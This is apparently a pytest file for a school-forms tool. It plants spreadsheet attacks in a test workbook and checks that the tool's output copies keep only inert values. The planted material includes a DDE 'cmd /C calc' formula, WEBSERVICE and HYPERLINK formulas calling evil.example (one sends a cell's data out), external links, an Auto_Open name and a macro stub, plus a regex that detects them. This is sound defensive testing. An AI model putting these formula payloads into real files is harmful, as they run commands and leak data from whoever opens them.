"""Marked copies of forms that were sent full of formulas, links, macros and names: values come back, nothing that acts.

And of what lies beside them: what a check wrote goes with it, a person's own files stay.
"""

import re
import zipfile

import openpyxl
import pytest
from builders_forms import NORTH, SOCIAL, build_returned, find_columns, load_municipal
from builders_raw import LAYOUTS
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from effschool.forms.protocol import open_case, write_check
from effschool.intake.ingest import ingest_folder
from effschool.intake.layouts import load_layouts

NORTH_FILE = "severnyi-raion"
MISTAKES = {(SOCIAL, 1, "Неполная семья"): "много"}
FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","нажмите")',
    '=WEBSERVICE("http://evil.example/?"&F6)',
    "='[http://evil.example/a.xlsx]Лист'!A1",
    "=[1]Лист!A1",
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TARGET = f"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{RELATION}/externalLinkPath" Target="http://evil.example/a.xlsx" TargetMode="External"/>
</Relationships>"""
LINK = """<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<ddeLink xmlns:r="x" ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>
</externalLink>"""


def check(raw, methodology, out):
    case = open_case(raw, ingest_folder(raw, LAYOUTS), load_layouts(LAYOUTS), (load_municipal(), methodology), None)
    return write_check(case, raw, out, demonstration=False)


def poison(path):
    """Put into a form all that acts."""
    book = openpyxl.load_workbook(path)
    sheet = book[SOCIAL]
    for row, formula in enumerate(FORMULAS, start=30):
        sheet.cell(row, 20).value = formula
    sheet["U30"] = ArrayFormula("U30:U31", "=SUM(F6:F7*2)")
    text = sheet["V30"]
    text.value, text.data_type = "=1+cmd|'/C calc'!A0", "s"
    sheet["V31"].value, sheet["V31"].hyperlink = "сюда", "http://evil.example/b"
    sheet["V32"].value, sheet["V32"].hyperlink = "и сюда", "#Аттестаты!A1"
    sheet["V33"].comment = Comment("моё примечание", "Иван")
    for formula in ('INDIRECT("A1")', "[1]Лист!$A$1:$A$9", "'http://evil.example/[a.xlsx]Л'!A1"):
        rule = DataValidation("list", formula1=formula)
        rule.add("W30")
        sheet.add_data_validation(rule)
    sheet.conditional_formatting.add("F6", FormulaRule(['WEBSERVICE("http://evil.example")=1']))
    sheet.oddHeader.center.text = "&G"
    for name, value in (("Auto_Open", "[1]Лист!$A$1"), ("x", 'WEBSERVICE("http://evil.example")')):
        book.defined_names[name] = DefinedName(name, attr_text=value)
    sheet.defined_names["y"] = DefinedName("y", attr_text="[1]Лист!$A$1")
    book.save(path)
    _add_parts(path)


def _add_parts(path):
    """A link to another program, and a macro: parts that openpyxl writes for nobody."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    book = parts["xl/workbook.xml"].decode()
    named = f'<externalReferences><externalReference xmlns:q="{RELATION}" q:id="rIdX"/></externalReferences>'
    parts["xl/workbook.xml"] = book.replace("<definedNames>", f"{named}<definedNames>", 1).encode()
    relations = parts["xl/_rels/workbook.xml.rels"].decode()
    linked = f'<Relationship Id="rIdX" Type="{RELATION}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    parts["xl/_rels/workbook.xml.rels"] = relations.replace("</Relationships>", f"{linked}</Relationships>").encode()
    kinds = parts["[Content_Types].xml"].decode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    added = f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{kind}"/>'
    parts["[Content_Types].xml"] = kinds.replace("</Types>", f"{added}</Types>").encode()
    parts |= {"xl/externalLinks/externalLink1.xml": LINK.encode(), "xl/vbaProject.bin": b"macro"}
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = TARGET.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory, methodology):
    folder = tmp_path_factory.mktemp("poison")
    raw = build_returned(folder / "raw", MISTAKES)
    poison(raw / "forms" / f"{NORTH_FILE}.xlsx")
    check(raw, methodology, folder / "out")
    return folder / "out" / "2021" / f"{NORTH_FILE}.xlsx"


ACTING = {
    "parts": r"externalLink|vba|macro|activeX|embedding|media/|connections|queryTable|customXml|ctrlProp|pivot",
    "text": r"<(?:\w+:)?f[ >/]|<hyperlink|conditionalFormatting|externalReference|TargetMode=.External|ddeLink"
    r"|<definedName name=.(?!_xlnm)|macroEnabled|WEBSERVICE|INDIRECT",
}


def test_copy_holds_nothing_that_acts(poisoned):
    with zipfile.ZipFile(poisoned) as archive:
        assert [name for name in archive.namelist() if re.search(ACTING["parts"], name, re.IGNORECASE)] == []
        whole = {name: archive.read(name).decode() for name in archive.namelist()}
    # What was a formula may stand as the text of a cell.
    texts = {name: re.sub(r"<t(?: [^>]*)?>.*?</t>", "", text, flags=re.DOTALL) for name, text in whole.items()}
    assert {name: found for name, text in texts.items() if (found := re.findall(ACTING["text"], text))} == {}
    assert "evil.example" not in "".join(texts.values())
    assert "evil.example" in "".join(whole.values())


def test_copy_keeps_values_looks_and_limits(poisoned):
    sheet = openpyxl.load_workbook(poisoned)[SOCIAL]
    assert [sheet.cell(row, 20).value for row in range(30, 35)] == list(FORMULAS)
    assert {sheet.cell(row, 20).data_type for row in range(30, 35)} == {"s"}
    assert sheet["V30"].value == "=1+cmd|'/C calc'!A0"
    assert sheet["V30"].data_type == "s"
    assert [sheet[name].value for name in ("V31", "V32")] == ["сюда", "и сюда"]
    assert sheet["V33"].comment.text == "моё примечание"
    assert sheet.protection.sheet
    assert sheet.freeze_panes
    wrong = sheet.cell(7, find_columns(sheet)["Неполная семья"])
    assert wrong.value == "много"
    assert "ожидалось целое число" in wrong.comment.text
    assert {rule.type for rule in sheet.data_validations.dataValidation} == {"whole", "list"}


def test_what_a_formula_gave_last_stands_in_the_copy(tmp_path, methodology):
    raw = build_returned(tmp_path / "raw", MISTAKES)
    form = raw / "forms" / f"{NORTH_FILE}.xlsx"
    with zipfile.ZipFile(form) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name in [name for name in parts if name.startswith("xl/worksheets/sheet")]:
        parts[name] = re.sub(rb"(</f>)<v ?/?>(?:</v>)?", rb"\1<v>17</v>", parts[name])
    with zipfile.ZipFile(form, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    computed = openpyxl.load_workbook(form, data_only=True)[SOCIAL]
    places = [c.coordinate for row in openpyxl.load_workbook(form)[SOCIAL] for c in row if c.data_type == "f"]
    assert places
    assert {computed[place].value for place in places} == {17}
    check(raw, methodology, tmp_path / "out")
    copy = openpyxl.load_workbook(tmp_path / "out" / "2021" / f"{NORTH_FILE}.xlsx")[SOCIAL]
    assert {copy[place].value for place in places} == {17}


def test_copy_and_protocol_of_a_renamed_municipality_go_and_own_files_stay(tmp_path, methodology):
    raw, out = build_returned(tmp_path / "raw", MISTAKES), tmp_path / "out" / "2021"
    check(raw, methodology, tmp_path / "out")
    assert {path.name for path in out.glob(f"{NORTH_FILE}*")} == {f"{NORTH_FILE}.html", f"{NORTH_FILE}.xlsx"}
    for name in ("мой список.xlsx", "заметки.html"):
        (out / name).write_bytes(b"mine")
    register = raw / "schools.csv"
    register.write_text(register.read_text("utf-8").replace(NORTH, "Полярный округ"), encoding="utf-8")
    check(raw, methodology, tmp_path / "out")
    assert not list(out.glob(f"{NORTH_FILE}*"))
    assert (out / "poliarnyi-okrug.xlsx").is_file()
    assert (out / "мой список.xlsx").read_bytes() == (out / "заметки.html").read_bytes() == b"mine"


def test_copy_that_a_person_has_mended_is_set_aside_and_named(tmp_path, methodology):
    raw, out = build_returned(tmp_path / "raw", MISTAKES), tmp_path / "out"
    check(raw, methodology, out)
    copy = out / "2021" / f"{NORTH_FILE}.xlsx"
    book = openpyxl.load_workbook(copy)
    book[SOCIAL]["A1"] = "исправлено"
    book.save(copy)
    mended = copy.read_bytes()
    checked = check(raw, methodology, out)
    assert checked.aside == (f"{NORTH_FILE}--правка-1.xlsx",)
    assert (copy.parent / checked.aside[0]).read_bytes() == mended
    assert copy.read_bytes() != mended
